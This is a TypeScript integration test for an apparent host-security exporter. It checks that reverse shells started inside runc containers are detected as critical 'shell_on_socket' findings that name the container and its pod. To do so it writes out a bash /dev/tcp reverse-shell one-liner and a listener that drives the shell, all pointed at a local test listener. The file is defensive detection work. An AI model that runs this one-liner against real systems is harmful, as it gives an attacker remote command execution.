import { createServer, type Server, type Socket } from 'node:net';
import { readFileSync, readlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FindingsDocument } from '../../src/findings/report.js';
import { startExporter, tempDir, type RunningExporter } from '../helpers/cli.js';
import { eventually as pollUntil } from '../helpers/eventually.js';
import { crioAnnotations, crioCgroup, debianImage, startContainer, type TestContainer } from '../helpers/containers.js';
import { remoteHost } from '../helpers/netns.js';
import { spawnForFile, stopProcess } from '../helpers/processes.js';
import { requireTool } from '../helpers/tools.js';

/**
 * Reverse shells inside real runc containers on an overlayfs root, found from the host with the
 * container named: one container sharing the host's network (its sockets are in the host's
 * /proc/net), one in a network namespace of its own, reached over a veth from the host (its sockets
 * are only in /proc/PID/net of its processes). The shell's other end is a listener of this test:
 * on 127.0.0.1, or on the host's end of the veth pair (test/helpers/netns.ts). Nothing leaves the machine.
 */

type Finding = FindingsDocument['findings'][number];

const pod = { uid: '5b1c2d3e-4f50-4617-8a9b-0c1d2e3f4a5b', namespace: 'shop', name: 'cart-5f6d7c8b9-q2w3e' };
const podImage = 'registry.example.com/shop/cart:3.2';
const policy = 'processes:\n  hidden_sweep: { enabled: false }\nlisteners:\n  hidden_ports: { enabled: false }\n';

let work: string;
let image: string;
let exporter: RunningExporter;
const servers: Server[] = [];

beforeAll(async () => {
  requireTool('runc', 'runc');
  requireTool('ip', 'iproute2');
  work = tempDir('hostguard-container-network-');
  image = debianImage(work);
  writeFileSync(join(work, 'policy.yml'), policy);
  const args = [
    '--collector.disable-defaults',
    '--collector.processes',
    '--collector.network',
    '--findings.show-details',
    '--state.dir',
    work,
    '--config.file',
    join(work, 'policy.yml'),
  ];
  exporter = await startExporter(args, { spawn: spawnForFile });
}, 120_000);

afterAll(async () => {
  for (const server of servers.splice(0)) {
    server.close();
    for (const socket of (server as Server & { held?: Socket[] }).held ?? []) socket.destroy();
  }
  if (exporter) await stopProcess(exporter.child);
});

const short = (id: string) => id.slice(0, 12);

async function findingsOf(container: TestContainer): Promise<Finding[]> {
  const document = (await (await fetch(`${exporter.url}/api/findings`)).json()) as FindingsDocument;
  return document.findings.filter((f) => f.subject['container_id'] === short(container.id));
}

/** Poll until `check` returns a value, with a generous deadline: the machine is shared. */
function eventually<T>(what: string, check: () => Promise<T | undefined>, timeoutMs = 60_000): Promise<T> {
  return pollUntil(check, { what, timeoutMs, intervalMs: 250 }) as Promise<T>;
}

/**
 * The attacker's end: a listener that sends the first connection a command and resolves once the
 * shell's answer comes back, so the shell is then on its socket.
 */
async function shellListener(host: string): Promise<{ port: number; answered: Promise<void> }> {
  let answer: () => void = () => {};
  const answered = new Promise<void>((resolve) => (answer = resolve));
  const held: Socket[] = [];
  const server = Object.assign(
    createServer((socket) => {
      held.push(socket);
      let seen = '';
      socket.on('data', (chunk: Buffer) => {
        seen += chunk.toString('latin1');
        if (seen.includes('hello-42')) answer();
      });
      socket.on('error', () => {});
      socket.write('echo hello-$((6*7))\n');
    }),
    { held },
  );
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return { port: (server.address() as { port: number }).port, answered };
}

/** bash's /dev/tcp, opened by the shell exec'd onto it: what a one-line reverse shell does. */
const reverseShell = (host: string, port: number) => ['/bin/bash', '-c', `exec /bin/sh 0<>/dev/tcp/${host}/${port} 1>&0 2>&0`];

function cartContainer(network: 'host' | { path: string }): TestContainer {
  return startContainer(image, work, {
    args: ['/bin/sleep', '100000'],
    cgroup: crioCgroup(pod.uid),
    annotations: crioAnnotations(pod, 'cart', podImage),
    network,
  });
}

async function shellFinding(container: TestContainer): Promise<{ finding: Finding; all: Finding[] }> {
  return eventually(`shell_on_socket in ${short(container.id)}`, async () => {
    const all = await findingsOf(container);
    const finding = all.find((f) => f.kind === 'shell_on_socket');
    return finding ? { finding, all } : undefined;
  });
}

describe('a reverse shell inside a container', () => {
  it("sharing the host's network: found in the host's tables, a critical shell_on_socket naming the container and its pod", async () => {
    const container = cartContainer('host');
    const { port, answered } = await shellListener('127.0.0.1');
    const pid = container.execDetached(reverseShell('127.0.0.1', port));
    await answered;

    const { finding, all } = await shellFinding(container);
    expect(finding).toMatchObject({
      severity: 'critical',
      subject: {
        direction: 'outgoing',
        remote_address: '127.0.0.1',
        port,
        container_runtime: 'cri-o',
        container: 'cart',
        image: podImage,
        pod_uid: pod.uid,
        pod_namespace: pod.namespace,
        pod: pod.name,
      },
    });
    expect(finding.message).toContain(
      `(pid ${pid}, in cri-o container ${short(container.id)} (cart, image ${podImage}, pod shop/${pod.name})) has its standard input, output and error on a tcp connection it opened to 127.0.0.1:${port}`,
    );
    // The host's network: the socket is in the host's table (not read from the container's namespace).
    expect(finding.message).not.toContain('network namespace');
    expect(all.map((f) => f.kind)).toEqual(['shell_on_socket']);
  }, 120_000);

  it("in a network namespace of its own, reached over a veth: found in that namespace's tables, the container named", async () => {
    const remote = remoteHost();
    const container = cartContainer({ path: `/var/run/netns/${remote.namespace}` });
    const { port, answered } = await shellListener(remote.hostAddress);
    const pid = container.execDetached(reverseShell(remote.hostAddress, port));
    await answered;
    // The shell's socket is listed in its namespace's table, not in the host's /proc/net.
    const inode = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/0`))![1]!;
    const listed = (table: string) =>
      readFileSync(table, 'utf8')
        .split('\n')
        .some((l) => l.trim().split(/\s+/)[9] === inode);
    expect(listed(`/proc/${pid}/net/tcp`)).toBe(true);
    expect(listed('/proc/net/tcp')).toBe(false);
    const netns = readlinkSync(`/proc/${pid}/ns/net`);
    expect(netns).not.toBe(readlinkSync('/proc/self/ns/net'));

    const { finding, all } = await shellFinding(container);
    expect(finding).toMatchObject({
      severity: 'critical',
      subject: {
        direction: 'outgoing',
        remote_address: remote.hostAddress,
        port,
        container_runtime: 'cri-o',
        image: podImage,
        pod_uid: pod.uid,
      },
    });
    expect(finding.message).toContain(
      `(pid ${pid}, in cri-o container ${short(container.id)} (cart, image ${podImage}, pod shop/${pod.name}))`,
    );
    expect(finding.message).toContain(`: a reverse shell (in network namespace ${netns})`);
    expect(all.map((f) => f.kind)).toEqual(['shell_on_socket']);
  }, 120_000);
});
